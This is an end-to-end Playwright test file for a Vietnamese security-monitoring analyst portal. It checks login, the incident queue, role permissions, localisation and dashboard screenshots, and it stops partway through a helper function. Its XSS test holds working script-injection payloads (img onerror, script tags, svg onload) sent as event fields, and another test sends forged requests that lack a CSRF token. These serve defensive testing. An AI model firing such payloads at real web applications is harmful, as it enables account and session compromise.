// portal.test.mjs: the analyst portal in Debian's chromium (playwright-core),
// against a real canh-correlator that run.sh started and fed with the demo
// capture through canh-sensor. Covers login, queue (filters, sort, keys,
// polling), incident actions per role, the server's CSRF/role refusals from
// the page context, XSS payloads from the wire rendered as text, both
// languages with UTC+7 times, catalogue completeness, and screenshots.
// Environment (from run.sh): CANH_URL, CANH_DATA, CANH_SHOTS.

import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { chromium } from 'playwright-core';

const BASE = process.env.CANH_URL;
const DATA = process.env.CANH_DATA;
const SHOTS = process.env.CANH_SHOTS;
const STATIC = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../../correlator/portal/static');

const creds = {};
const pw = {};
let browser = null;

// demo-credentials: CANH_SENSOR_TOKEN, CANH_ADMIN_TOKEN, CANH_<USER>_PASSWORD.
function loadCreds() {
  for (const line of fs.readFileSync(path.join(DATA, 'demo-credentials'), 'utf8').split('\n')) {
    const m = /^([A-Z0-9_]+)=(.*)$/.exec(line.trim());
    if (!m) continue;
    creds[m[1]] = m[2].replace(/^['"]|['"]$/g, '');
    const p = /^CANH_([A-Z0-9]+)_PASSWORD$/.exec(m[1]);
    if (p) pw[p[1].toLowerCase()] = creds[m[1]];
  }
}

async function apiGet(p) {
  const r = await fetch(`${BASE}/api/v1${p}`, { headers: { Authorization: `Bearer ${creds.CANH_ADMIN_TOKEN}` } });
  assert.equal(r.status, 200, `GET ${p}: ${r.status}`);
  return r.json();
}

let seq = 5_000_000;
async function postEvents(evs) {
  const lines = evs.map((e) => {
    seq++;
    return JSON.stringify(Object.assign({}, e, { canh: { id: `demo:${seq}`, sensor: 'demo', seq } }));
  }).join('\n');
  const r = await fetch(`${BASE}/api/v1/events`, {
    method: 'POST', body: `${lines}\n`,
    headers: { Authorization: `Bearer ${creds.CANH_SENSOR_TOKEN}`, 'Content-Type': 'application/x-ndjson' },
  });
  return { status: r.status, body: await r.json().catch(() => null) };
}

// Wire payloads: each sets window.__xss or opens a dialog if it ever runs.
const XSS = {
  sig: 'CANH-XSS <img src=x onerror="window.__xss=1;alert(1)"> signature',
  url: '/q?<script>window.__xss=2;alert(2)</script>',
  ua: 'Mozilla/5.0 <script>window.__xss=3</script><img src=x onerror=alert(3)>',
  file: '<svg onload="window.__xss=4;alert(4)">payload.exe',
  yara: '<b onmouseover=alert(5)>rule</b>',
  srcip: '<img src=x onerror="window.__xss=6">',
};
const XSS_SRC = '198.18.0.66';
const T0 = '2026-11-20T08:05:00.000000+0000';

function alertEvent(src, sid, sig, extra) {
  return Object.assign({
    timestamp: T0, event_type: 'alert', src_ip: src, src_port: 40000 + (sid % 1000), dest_ip: '10.20.1.30', dest_port: 80,
    proto: 'TCP', app_proto: 'http',
    alert: { action: 'allowed', gid: 1, signature_id: sid, rev: 1, signature: sig, category: 'Web Application Attack', severity: 1 },
  }, extra || {});
}

function launchArgs() {
  return ['--headless', '--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run',
    '--disable-background-networking', '--disable-component-update', '--disable-sync'];
}

// A fresh browser context (own cookies) logged in as user.
async function login(user, opts) {
  const ctx = await browser.newContext({ viewport: { width: 1440, height: 900 }, locale: (opts && opts.locale) || 'en-US', timezoneId: 'UTC' });
  const page = await ctx.newPage();
  page.dialogs = [];
  page.errors = [];
  page.on('dialog', (d) => { page.dialogs.push(d.message()); d.dismiss().catch(() => {}); });
  page.on('pageerror', (e) => page.errors.push(e.message));
  await page.goto(`${BASE}/`);
  await page.waitForSelector('#login-form');
  await page.fill('#login-user', user);
  await page.fill('#login-pass', pw[user]);
  await page.click('#login-btn');
  await page.waitForSelector('#top:not([hidden])', { timeout: 10000 });
  return { ctx, page };
}

async function setLang(page, l) {
  if (await page.$eval('#lang-select', (s) => s.value) !== l) {
    await page.selectOption('#lang-select', l);
    await page.waitForFunction((x) => document.documentElement.lang === x, l);
  }
}

async function rowIds(page) {
  return page.$$eval('#rows tr[data-id]', (trs) => trs.map((t) => Number(t.dataset.id)));
}

async function openIncident(page, id) {
  await page.goto(`${BASE}/#/incident/${id}`);
  await page.waitForSelector('#summary');
}

async function incidentsBy(pred) {
  const r = await apiGet('/incidents?limit=100&status=new,acknowledged,investigating,resolved,false_positive');
  return r.incidents.filter(pred);
}

let xssAccepted = { main: false, srcip: false };

before(async () => {
  assert.ok(BASE && DATA, 'run through tests/portal/run.sh (CANH_URL, CANH_DATA)');
  loadCreds();
  for (const u of ['admin', 'viewer1', 'analyst1', 'responder1']) assert.ok(pw[u], `no password for ${u} in demo-credentials`);
  browser = await chromium.launch({ executablePath: '/usr/bin/chromium', headless: true, args: launchArgs() });
  // Crafted events carrying script payloads in every wire field the page shows.
  const main = await postEvents([
    alertEvent(XSS_SRC, 9199001, XSS.sig, {
      http: { hostname: 'portal.example.gov.vn', url: XSS.url, http_user_agent: XSS.ua, http_method: 'GET', status: 200 },
    }),
    { timestamp: T0, event_type: 'fileinfo', src_ip: '203.0.113.9', src_port: 80, dest_ip: XSS_SRC, dest_port: 40001, proto: 'TCP', app_proto: 'http',
      http: { hostname: 'dl.example.net', url: XSS.url, http_user_agent: XSS.ua },
      fileinfo: { filename: XSS.file, size: 68, sha256: 'a'.repeat(64), yara: [{ rule: XSS.yara }] } },
  ]);
  xssAccepted.main = main.status === 200;
  assert.equal(main.status, 200, `crafted events refused: ${JSON.stringify(main.body)}`);
  // A script as the source address: the ingest may refuse it (fine); if it is
  // stored, it must render as text in the group key and entity columns.
  const sip = await postEvents([alertEvent(XSS.srcip, 9199002, 'CANH-XSS source address')]);
  xssAccepted.srcip = sip.status === 200;
  // Let the correlator run the rules.
  for (let i = 0; i < 50; i++) {
    if ((await incidentsBy((x) => (x.src || []).includes(XSS_SRC) || (x.dest || []).includes(XSS_SRC))).length >= 2) break;
    await new Promise((ok) => setTimeout(ok, 100));
  }
});

after(async () => {
  if (browser) await browser.close();
});

test('security headers on the portal and the API', async () => {
  for (const p of ['/', '/app.js', '/i18n/vi.json']) {
    const r = await fetch(`${BASE}${p}`);
    assert.equal(r.status, 200, p);
    const csp = r.headers.get('content-security-policy') || '';
    for (const d of ["default-src 'self'", "script-src 'self'", "object-src 'none'", "frame-ancestors 'none'"]) assert.ok(csp.includes(d), `${p}: CSP lacks ${d}: ${csp}`);
    assert.equal(r.headers.get('x-content-type-options'), 'nosniff', p);
    assert.equal(r.headers.get('referrer-policy'), 'no-referrer', p);
  }
});

test('login: wrong password refused, analyst sees the incidents of the run', async () => {
  const ctx = await browser.newContext();
  const page = await ctx.newPage();
  await page.goto(`${BASE}/`);
  await page.fill('#login-user', 'analyst1');
  await page.fill('#login-pass', 'not-the-password');
  await page.click('#login-btn');
  await page.waitForFunction(() => document.getElementById('login-err').textContent.length > 0);
  assert.ok(await page.isHidden('#top'));
  await ctx.close();

  const { ctx: c2, page: p2 } = await login('analyst1');
  await p2.waitForSelector('#rows tr[data-id]');
  const api = await apiGet('/incidents?limit=100');
  const scan = api.incidents.find((i) => (i.group_fields || {}).src_ip === '198.51.100.23');
  const brute = api.incidents.find((i) => (i.group_fields || {}).src_ip === '203.0.113.45');
  assert.ok(scan && brute, 'the demo run opened the port scan and brute force incidents');
  const ids = await rowIds(p2);
  assert.ok(ids.includes(scan.id) && ids.includes(brute.id), `rows ${ids}`);
  assert.ok(await p2.isVisible(`#rows tr[data-id="${scan.id}"] >> text=198.51.100.23`));
  assert.equal(await p2.textContent('#who-user'), 'analyst1');
  await c2.close();
});

test('queue: filters, status tabs, sorting and counts', async () => {
  const { ctx, page } = await login('analyst1');
  await setLang(page, 'en');
  await page.waitForSelector('#rows tr[data-id]');
  const all = await rowIds(page);
  assert.ok(all.length >= 3, `rows: ${all}`);
  // address filter
  await page.fill('#f-address', '198.51.100.23');
  await page.waitForFunction(() => document.querySelectorAll('#rows tr[data-id]').length === 1);
  assert.match(await page.textContent('#rows'), /198\.51\.100\.23/);
  assert.match(page.url(), /address=198\.51\.100\.23/);
  await page.click('#f-reset');
  await page.waitForFunction((n) => document.querySelectorAll('#rows tr[data-id]').length === n, all.length);
  // severity: high only
  await page.selectOption('#f-severity', '1');
  await page.waitForFunction(() => [...document.querySelectorAll('#rows tr[data-id]')].every((t) => t.classList.contains('sev-row-1')) &&
    document.querySelectorAll('#rows tr[data-id]').length > 0);
  await page.selectOption('#f-severity', '');
  // free text
  await page.fill('#q', 'brute');
  await page.waitForFunction(() => document.querySelectorAll('#rows tr[data-id]').length === 1);
  assert.match(await page.textContent('#rows'), /brute force/i);
  await page.fill('#q', '');
  await page.waitForFunction((n) => document.querySelectorAll('#rows tr[data-id]').length === n, all.length);
  // time range, entered in the user's zone (UTC+7): from 15:04:00 local =
  // 08:04:00Z keeps the crafted 08:05Z alerts and drops the 08:00Z port scan
  const scanId = (await incidentsBy((i) => (i.group_fields || {}).src_ip === '198.51.100.23'))[0].id;
  await page.fill('#f-since', '2026-11-20T15:04:00');
  await page.waitForFunction((id) => document.querySelectorAll('#rows tr[data-id]').length > 0 &&
    !document.querySelector(`#rows tr[data-id="${id}"]`), scanId);
  assert.match(page.url(), /since=2026-11-20T08%3A04%3A00\.000Z/);
  await page.click('#f-reset');
  await page.waitForFunction((n) => document.querySelectorAll('#rows tr[data-id]').length === n, all.length);
  // sort by id ascending then descending (header click)
  await page.click('th[data-col="id"] button');
  await page.waitForFunction(() => document.querySelector('th[data-col="id"]').getAttribute('aria-sort') === 'descending');
  await page.click('th[data-col="id"] button');
  await page.waitForFunction(() => {
    const ids = [...document.querySelectorAll('#rows tr[data-id]')].map((t) => Number(t.dataset.id));
    return ids.length > 1 && ids.every((v, i) => i === 0 || ids[i - 1] < v);
  });
  // counts on the tabs agree with the API
  const counts = await apiGet('/incidents/counts');
  await page.waitForFunction((n) => document.querySelector('.tab[data-status="new"] .count').textContent === String(n), counts.new);
  // the "resolved" tab shows no open incident
  await page.click('.tab[data-status="resolved"]');
  await page.waitForFunction(() => [...document.querySelectorAll('#rows tr[data-id] .st')].every((s) => s.classList.contains('st-resolved')));
  await ctx.close();
});

test('keyboard: / focuses search, j/k move, Enter opens, ? shows help', async () => {
  const { ctx, page } = await login('analyst1');
  await page.waitForSelector('#rows tr[data-id]');
  await page.keyboard.press('/');
  assert.equal(await page.evaluate(() => document.activeElement.id), 'q');
  await page.keyboard.press('Escape');
  const ids = await rowIds(page);
  await page.keyboard.press('j');
  assert.equal(await page.$eval('#rows tr.cur', (t) => Number(t.dataset.id)), ids[1]);
  await page.keyboard.press('k');
  assert.equal(await page.$eval('#rows tr.cur', (t) => Number(t.dataset.id)), ids[0]);
  await page.keyboard.press('Shift+?');
  assert.ok(await page.isVisible('#help'));
  await page.keyboard.press('Escape');
  await page.keyboard.press('Enter');
  await page.waitForSelector('#summary');
  assert.match(page.url(), new RegExp(`#/incident/${ids[0]}$`));
  await ctx.close();
});

test('analyst acknowledges and comments, responder resolves; the audit trail shows it', async () => {
  const [brute] = await incidentsBy((i) => (i.group_fields || {}).src_ip === '203.0.113.45');
  const { ctx, page } = await login('analyst1');
  await setLang(page, 'en');
  await openIncident(page, brute.id);
  assert.ok(await page.isVisible('#act-ack'));
  assert.equal(await page.$('#act-resolve'), null, 'an analyst gets no resolve button');
  await page.click('#act-ack');
  await page.waitForSelector('.inc-title .st-acknowledged');
  const note = `Blocked 203.0.113.45 at the edge firewall; the SSH host accepts keys only (ticket ${Date.now() % 100000})`;
  await page.fill('#comment-body', note);
  await page.click('#comment-add');
  await page.waitForSelector(`#comments .c-body >> text=${note}`);
  const audit = await page.textContent('#audit');
  const en = JSON.parse(fs.readFileSync(path.join(STATIC, 'i18n/en.json'), 'utf8'));
  assert.match(audit, /analyst1/);
  assert.ok(audit.includes(`${en['status.new']} → ${en['status.acknowledged']}`), audit);
  const stored = await apiGet(`/incidents/${brute.id}`);
  assert.equal(stored.status, 'acknowledged');
  assert.ok(stored.comments.some((c) => c.body === note && c.author === 'analyst1'));
  assert.ok(stored.audit.some((a) => a.actor === 'analyst1' && a.action === 'set_status'));
  await ctx.close();

  const r = await login('responder1');
  await setLang(r.page, 'en');
  await openIncident(r.page, brute.id);
  await r.page.selectOption('#act-disp', 'true_positive');
  await r.page.click('#act-resolve');
  await r.page.waitForSelector('.inc-title .st-resolved');
  assert.equal(await r.page.$('#act-ack'), null, 'a closed incident offers no acknowledge');
  assert.ok(await r.page.isVisible('#act-reopen'));
  const after = await apiGet(`/incidents/${brute.id}`);
  assert.equal(after.status, 'resolved');
  assert.equal(after.disposition, 'true_positive');
  assert.ok(after.audit.some((a) => a.actor === 'responder1' && a.action === 'set_status'));
  assert.ok((await r.page.textContent('#audit')).includes(`${en['status.acknowledged']} → ${en['status.resolved']}`));
  assert.match(await r.page.textContent('#audit'), /responder1/);
  await r.ctx.close();
});

test('viewer: no action buttons, and the server refuses forged requests from the page', async () => {
  const [scan] = await incidentsBy((i) => (i.group_fields || {}).src_ip === '198.51.100.23');
  const { ctx, page } = await login('viewer1');
  await openIncident(page, scan.id);
  assert.ok(await page.isVisible('#readonly-note'));
  assert.equal(await page.$$eval('#actions button', (b) => b.length), 0);
  assert.equal(await page.$('#comment-form'), null);
  assert.equal(await page.$('.ev-move'), null);
  const res = await page.evaluate(async (id) => {
    const who = await (await fetch('/api/v1/whoami')).json();
    const send = async (csrf) => (await fetch(`/api/v1/incidents/${id}`, {
      method: 'PATCH', credentials: 'same-origin',
      headers: Object.assign({ 'Content-Type': 'application/json' }, csrf ? { 'X-CSRF-Token': csrf } : {}),
      body: JSON.stringify({ status: 'resolved' }),
    })).status;
    const comment = (await fetch(`/api/v1/incidents/${id}/comments`, { method: 'POST', headers: { 'Content-Type': 'application/json', 'X-CSRF-Token': who.csrf }, body: '{"body":"x"}' })).status;
    return { role: who.role, withCsrf: await send(who.csrf), noCsrf: await send(null), comment };
  }, scan.id);
  assert.equal(res.role, 'viewer');
  assert.equal(res.withCsrf, 403);
  assert.equal(res.noCsrf, 403);
  assert.equal(res.comment, 403);
  assert.equal((await apiGet(`/incidents/${scan.id}`)).status, scan.status, 'nothing changed');
  // in the queue: no bulk actions for a viewer
  await page.goto(`${BASE}/#/queue`);
  await page.waitForSelector('#rows tr[data-id]');
  await page.click('#rows tr[data-id] input.sel');
  assert.ok(await page.isVisible('#bulk'));
  assert.equal(await page.$('#bulk-ack'), null);
  await ctx.close();
});

test('CSRF: a session request without the token is refused (analyst)', async () => {
  const [scan] = await incidentsBy((i) => (i.group_fields || {}).src_ip === '198.51.100.23');
  const { ctx, page } = await login('analyst1');
  const st = await page.evaluate(async (id) => (await fetch(`/api/v1/incidents/${id}`, {
    method: 'PATCH', headers: { 'Content-Type': 'application/json' }, body: '{"assignee":"mallory"}' })).status, scan.id);
  assert.equal(st, 403);
  assert.notEqual((await apiGet(`/incidents/${scan.id}`)).assignee, 'mallory');
  await ctx.close();
});

test('XSS payloads from the wire render as text', async () => {
  assert.ok(xssAccepted.main);
  const incs = await incidentsBy((i) => (i.src || []).includes(XSS_SRC) || (i.dest || []).includes(XSS_SRC));
  assert.ok(incs.length >= 1, 'the crafted alert opened an incident');
  const { ctx, page } = await login('analyst1');
  await page.waitForSelector('#rows tr[data-id]');
  const checkClean = async (where) => {
    const r = await page.evaluate(() => ({
      xss: window.__xss || 0,
      imgs: document.querySelectorAll('img').length,
      scripts: [...document.querySelectorAll('script')].filter((s) => !/app\.js$/.test(s.src)).length,
      handlers: [...document.querySelectorAll('*')].filter((e) => [...e.attributes].some((a) => a.name.startsWith('on'))).length,
      bold: document.querySelectorAll('main b, main svg[onload]').length,
    }));
    assert.deepEqual(r, { xss: 0, imgs: 0, scripts: 0, handlers: 0, bold: 0 }, where);
    assert.deepEqual(page.dialogs, [], `${where}: a dialog fired`);
  };
  await checkClean('queue');
  for (const inc of incs) {
    await openIncident(page, inc.id);
    for (const d of await page.$$('#timeline details')) await d.evaluate((x) => { x.open = true; });
    await page.waitForTimeout(200);
    await checkClean(`incident ${inc.id}`);
  }
  const alertInc = incs.find((i) => i.rule_id === 'fc4fea5c-0280-433a-9be0-b621b6862f5e') || incs[0];
  await openIncident(page, alertInc.id);
  await page.click('#timeline summary');
  const text = await page.textContent('#timeline');
  for (const k of ['sig', 'url', 'ua']) assert.ok(text.includes(XSS[k]), `${k} shown literally`);
  assert.ok(await page.getByText(XSS.sig, { exact: true }).first().isVisible());
  const fileInc = incs.find((i) => i.rule_id === '5725fbac-1115-42e2-881c-5015e7bf0985');
  if (fileInc) {
    await openIncident(page, fileInc.id);
    assert.ok((await page.textContent('#timeline')).includes(XSS.file));
    assert.ok((await page.textContent('#timeline')).includes(XSS.yara));
  }
  if (xssAccepted.srcip) {
    const [si] = await incidentsBy((i) => (i.group_key || '').includes('window.__xss=6'));
    if (si) {
      await page.goto(`${BASE}/#/queue?q=${encodeURIComponent('__xss=6')}`);
      await page.waitForSelector(`#rows tr[data-id="${si.id}"]`);
      assert.ok((await page.textContent('#rows')).includes(XSS.srcip));
      await openIncident(page, si.id);
      assert.ok((await page.textContent('#why')).includes(XSS.srcip));
    }
  }
  await checkClean('end');
  assert.deepEqual(page.errors, []);
  await ctx.close();
});

test('reporting state: pending with the reason of the failed delivery; outside the policy: not reported', async () => {
  // run.sh points report.post.url at a closed loopback port: every attempt
  // fails to connect, so the newest version stays pending with curl's reason.
  const port = process.env.CANH_REPORT_PORT;
  const [scan] = await incidentsBy((i) => (i.group_fields || {}).src_ip === '198.51.100.23');
  let rep = null;
  for (let i = 0; i < 100; i++) {
    rep = (await apiGet(`/incidents/${scan.id}`)).reporting;
    if (rep && rep.state === 'pending' && rep.reason && rep.attempts >= 1) break;
    await new Promise((ok) => setTimeout(ok, 200));
  }
  assert.equal(rep.state, 'pending', JSON.stringify(rep));
  assert.ok(rep.reason && rep.reason.includes(`127.0.0.1:${port}`), rep.reason);
  const cat = {};
  for (const l of ['vi', 'en']) cat[l] = JSON.parse(fs.readFileSync(path.join(STATIC, 'i18n', `${l}.json`), 'utf8'));
  const { ctx, page } = await login('viewer1');
  for (const lang of ['en', 'vi']) {
    await setLang(page, lang);
    await openIncident(page, scan.id);
    await page.waitForSelector('#reporting #rep-state');
    assert.equal(await page.textContent('#reporting h2'), cat[lang]['incident.reporting']);
    assert.equal(await page.textContent('#rep-state'), cat[lang]['rep.pending']);
    assert.equal(await page.getAttribute('#rep-state', 'data-state'), 'pending');
    const reason = await page.textContent('#rep-reason');
    assert.ok(reason.includes(`127.0.0.1:${port}`), reason);
    assert.ok((await page.textContent('#reporting dl')).includes(cat[lang]['rep.reason']));
    assert.match(await page.textContent('#rep-next'), /^\d\d\/\d\d\/\d{4} \d\d:\d\d:\d\d \(UTC\+7\)$/);
    assert.ok(Number(await page.textContent('#rep-attempts')) >= 1);
    if (lang === 'vi') await page.locator('#reporting').screenshot({ path: path.join(SHOTS, 'reporting.png') });
  }
  // an incident of a rule outside report.policy.rules is not reported
  const [other] = await incidentsBy((i) => (i.src || []).includes(XSS_SRC));
  assert.equal((await apiGet(`/incidents/${other.id}`)).reporting.state, 'none');
  await openIncident(page, other.id);
  await page.waitForSelector('#reporting #rep-state');
  assert.equal(await page.textContent('#rep-state'), cat.vi['rep.none']);
  assert.equal(await page.$('#rep-reason'), null);
  assert.deepEqual(page.errors, []);
  await ctx.close();
});

test('new incidents appear in the queue without reload', async () => {
  const { ctx, page } = await login('analyst1');
  await page.waitForSelector('#rows tr[data-id]');
  const before = await rowIds(page);
  await page.evaluate(() => { window.__marker = 1; });
  const src = '198.18.0.77';
  assert.equal((await postEvents([alertEvent(src, 9199010, 'CANH test: new incident while the queue is open')])).status, 200);
  await page.waitForFunction((s) => document.querySelector('#rows').textContent.includes(s), src, { timeout: 15000 });
  assert.equal(await page.evaluate(() => window.__marker), 1, 'no reload happened');
  const after = await rowIds(page);
  assert.ok(after.length === before.length + 1, `${before} -> ${after}`);
  assert.ok(await page.isVisible('#fresh'));
  await ctx.close();
});

// dd/mm/yyyy hh:mm:ss of an RFC 3339 time shifted by +7 h (what the page must show).
function plus7(iso) {
  const d = new Date(new Date(iso).getTime() + 7 * 3600e3);
  const p = (n) => String(n).padStart(2, '0');
  return `${p(d.getUTCDate())}/${p(d.getUTCMonth() + 1)}/${d.getUTCFullYear()} ${p(d.getUTCHours())}:${p(d.getUTCMinutes())}:${p(d.getUTCSeconds())}`;
}

for (const lang of ['vi', 'en']) {
  test(`${lang}: key strings and times in UTC+7`, async () => {
    const cat = JSON.parse(fs.readFileSync(path.join(STATIC, 'i18n', `${lang}.json`), 'utf8'));
    const [scan] = await incidentsBy((i) => (i.group_fields || {}).src_ip === '198.51.100.23');
    const { ctx, page } = await login('analyst1');
    await setLang(page, lang);
    await page.waitForSelector('#rows tr[data-id]');
    assert.equal(await page.textContent('.nav a[data-route="queue"]'), cat['nav.queue']);
    assert.equal(await page.textContent('#logout-btn'), cat['header.logout']);
    assert.equal(await page.textContent('.tab[data-status="new"] span'), cat['status.new']);
    assert.ok((await page.textContent('th[data-col="last_seen"]')).startsWith(cat['col.last_seen']));
    await openIncident(page, scan.id);
    assert.equal(await page.textContent('#why h2'), cat['incident.why']);
    assert.equal(await page.textContent('#audit h2'), cat['incident.audit']);
    const shown = await page.textContent('#first-seen');
    assert.equal(shown, `${plus7(scan.first_seen)} (UTC+7)`, `stored ${scan.first_seen}`);
    const want = lang === 'vi' ? (scan.title_vi || scan.title) : scan.title;
    assert.equal(await page.textContent('#inc-title'), want);
    // the rule's description in the user's language (canh.description_vi)
    assert.ok(scan.description_vi && scan.description && scan.description_vi !== scan.description);
    assert.equal((await page.textContent('#inc-desc')).trim(), (lang === 'vi' ? scan.description_vi : scan.description).trim());
    assert.equal(await page.getAttribute('#inc-desc', 'lang'), lang);
    // with one language missing, the other is shown (an incident stored
    // before migration 5, or a rule without canh.description_vi)
    const drop = lang === 'vi' ? 'description_vi' : 'description';
    await page.route(`**/api/v1/incidents/${scan.id}`, async (route) => {
      const resp = await route.fetch();
      const body = await resp.json();
      delete body[drop];
      await route.fulfill({ response: resp, json: body });
    });
    await page.reload();
    await page.waitForSelector('#inc-desc');
    assert.equal((await page.textContent('#inc-desc')).trim(), (lang === 'vi' ? scan.description : scan.description_vi).trim());
    assert.equal(await page.getAttribute('#inc-desc', 'lang'), lang === 'vi' ? 'en' : 'vi');
    await page.unroute(`**/api/v1/incidents/${scan.id}`);
    // the choice is stored per user: a new session comes back in this language
    await ctx.close();
    const again = await login('analyst1');
    assert.equal(await again.page.evaluate(() => document.documentElement.lang), lang);
    assert.equal(await again.page.textContent('#logout-btn'), cat['header.logout']);
    await again.ctx.close();
  });
}

// Every visible text node outside data cells must be a catalogue value (or an
// instance of a value with {placeholders}).
async function untranslated(page, cat) {
  return page.evaluate((values) => {
    const pats = values.map((v) => new RegExp(`^${v.replace(/[.*+?^$()|[\]\\]/g, '\\$&').replace(/\\?\{\w+\\?\}/g, '.+?')}$`, 's'));
    const bad = [];
    const w = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
    for (let n = w.nextNode(); n; n = w.nextNode()) {
      const s = n.textContent.trim();
      if (!/\p{L}/u.test(s)) continue;
      const p = n.parentElement;
      if (!p || p.closest('[data-wire], kbd, script, style, title')) continue;
      if (!p.checkVisibility()) continue;
      if (!pats.some((re) => re.test(s))) bad.push(s);
    }
    return bad;
  }, Object.values(cat));
}

test('catalogues: same keys, every data-i18n key exists, no chrome text outside the catalogue', async () => {
  const vi = JSON.parse(fs.readFileSync(path.join(STATIC, 'i18n/vi.json'), 'utf8'));
  const en = JSON.parse(fs.readFileSync(path.join(STATIC, 'i18n/en.json'), 'utf8'));
  assert.deepEqual(Object.keys(vi).sort(), Object.keys(en).sort());
  for (const [k, v] of Object.entries(vi)) assert.ok(v.trim() && en[k].trim(), `empty value for ${k}`);
  // every string literal of the scripts shaped like a key of a catalogue
  // section ('queue.reset', 'dash.top_src', ...) is in the catalogues
  const sections = new Set(Object.keys(vi).map((k) => k.split('.')[0]));
  let literals = 0;
  for (const f of fs.readdirSync(STATIC).filter((x) => x.endsWith('.js'))) {
    const src = fs.readFileSync(path.join(STATIC, f), 'utf8');
    for (const m of src.matchAll(/'([a-z]+)\.([a-z0-9_]+)'/g)) {
      if (!sections.has(m[1])) continue;
      literals++;
      assert.ok(`${m[1]}.${m[2]}` in vi, `${f}: ${m[1]}.${m[2]} not in the catalogues`);
    }
  }
  assert.ok(literals > 100, `${literals} key literals found`);
  const [scan] = await incidentsBy((i) => (i.group_fields || {}).src_ip === '198.51.100.23');
  const ctx0 = await browser.newContext();
  const lp = await ctx0.newPage();
  await lp.goto(`${BASE}/`);
  await lp.waitForSelector('#login-form');
  assert.deepEqual(await untranslated(lp, vi), [], 'login page (vi)');
  await ctx0.close();
  const { ctx, page } = await login('responder1');
  for (const [lang, cat] of [['vi', vi], ['en', en]]) {
    await setLang(page, lang);
    const keys = await page.$$eval('[data-i18n],[data-i18n-title],[data-i18n-placeholder],[data-i18n-aria-label]', (es) =>
      es.map((e) => e.dataset.i18n || e.dataset.i18nTitle || e.dataset.i18nPlaceholder || e.dataset.i18nAriaLabel));
    assert.ok(keys.length > 10);
    for (const k of keys) assert.ok(k in vi && k in en, `data-i18n key ${k}`);
    const ready = { '#/queue': '#rows tr[data-id]', '#/dashboard': '.kpis, .empty-state', '#/suppressions': '#suppressions' };
    for (const route of ['#/queue', `#/incident/${scan.id}`, '#/dashboard', '#/suppressions']) {
      await page.goto(`${BASE}/${route}`);
      await page.waitForSelector(ready[route] || '#summary');
      assert.deepEqual(await untranslated(page, cat), [], `${lang} ${route}`);
      assert.equal(await page.evaluate(() => document.body.textContent.includes('⟦')), false, `${lang} ${route}: missing key`);
    }
    await page.click('#help-btn');
    assert.deepEqual(await untranslated(page, cat), [], `${lang} help`);
    await page.keyboard.press('Escape');
  }
  await ctx.close();
});

async function adminPost(p, body) {
  const r = await fetch(`${BASE}/api/v1${p}`, { method: 'POST', body: JSON.stringify(body),
    headers: { Authorization: `Bearer ${creds.CANH_ADMIN_TOKEN}`, 'Content-Type': 'application/json' } });
  return { status: r.status, body: await r.json().catch(() => null) };
}

test('dashboard: charts, sensor health; screenshots', async () => {
  // dc-2 never sends (silent); dc-3 reports 2.4 % capture loss (dropping)
  assert.equal((await adminPost('/sensors', { name: 'dc-2' })).status, 201);
  const s3 = await adminPost('/sensors', { name: 'dc-3' });
  assert.equal(s3.status, 201);
  const stats = { timestamp: T0, event_type: 'stats', canh: { id: 'dc-3:0', sensor: 'dc-3', seq: 0 },
    stats: { uptime: 60, capture: { kernel_packets: 100000, kernel_drops: 2500 }, decoder: { pkts: 100000 } } };
  const r3 = await fetch(`${BASE}/api/v1/events`, { method: 'POST', body: `${JSON.stringify(stats)}\n`,
    headers: { Authorization: `Bearer ${s3.body.token}`, 'Content-Type': 'application/x-ndjson' } });
  assert.equal(r3.status, 200);
  const d = await apiGet('/dashboard');
  assert.ok(d.sensors.find((x) => x.name === 'dc-2').silent, 'dc-2 silent');
  assert.ok(Number(d.sensors.find((x) => x.name === 'dc-3').capture_loss_pct) > 2, 'dc-3 dropping');
  const { ctx, page } = await login('analyst1');
  await setLang(page, 'vi');
  await page.goto(`${BASE}/#/dashboard`);
  await page.waitForSelector('#c-alerts svg');
  assert.equal(await page.$$eval('#c-alerts svg rect.bar', (r) => r.length), d.alerts_over_time.length);
  const sig = d.top_signatures.length ? d.top_signatures[0].signature : null;
  if (sig) assert.ok((await page.$$eval('#c-sigs svg title', (t) => t.map((x) => x.textContent))).some((x) => x.startsWith(sig)));
  assert.equal(await page.$$eval('#sensors tbody tr', (r) => r.length), d.sensors.length);
  const silent = d.sensors.filter((s) => s.silent).length;
  assert.equal(!!(await page.$('#sensor-banner')), silent > 0 || d.sensors.some((s) => Number(s.capture_loss_pct) >= 1));
  const banner = await page.textContent('#sensor-banner');
  assert.ok(banner.includes('dc-2') && banner.includes('dc-3') && !banner.includes('demo'), banner);
  assert.equal(await page.$$eval('#sensors .h-silent', (x) => x.length), silent);
  assert.ok(await page.$('#sensors .h-drop'));
  fs.mkdirSync(SHOTS, { recursive: true });
  await page.screenshot({ path: path.join(SHOTS, 'dashboard.png') });
  // the brute force incident: acknowledged, commented and resolved above
  const [brute] = await incidentsBy((i) => (i.group_fields || {}).src_ip === '203.0.113.45');
  await openIncident(page, brute.id);
  await page.screenshot({ path: path.join(SHOTS, 'incident.png') });
  await page.goto(`${BASE}/#/queue?status=`);
  await page.waitForSelector('#rows tr[data-id]');
  await page.screenshot({ path: path.join(SHOTS, 'queue.png') });
  // dark theme (header toggle, remembered in localStorage)
  await page.click('#theme-btn');
  assert.equal(await page.evaluate(() => document.documentElement.dataset.theme), 'dark');
  assert.notEqual(await page.evaluate(() => getComputedStyle(document.body).backgroundColor), 'rgb(244, 245, 247)');
  await page.screenshot({ path: path.join(SHOTS, 'queue-dark.png') });
  await page.click('#theme-btn');
  for (const f of ['dashboard.png', 'incident.png', 'queue.png', 'queue-dark.png']) assert.ok(fs.statSync(path.join(SHOTS, f)).size < 300 * 1024, `${f} < 300 KB`);
  assert.deepEqual(page.errors, []);
  await ctx.close();
});

// The severity-1 alert rule groups by src_ip + dest_ip: incidents of one pair.
const byPair = (src, dest) => (c) => (c.group_fields || {}).src_ip === src && (c.group_fields || {}).dest_ip === dest;

async function incidentOf(src, dest) {
  for (let i = 0; i < 50; i++) {
    const [x] = await incidentsBy(byPair(src, dest));
    if (x) return x;
    await new Promise((ok) => setTimeout(ok, 100));
  }
  assert.fail(`no incident for ${src} -> ${dest}`);
}

// Incidents of their own for the workflow tests below: A and B from one
// source (to two hosts), C from another.
async function workflowIncidents() {
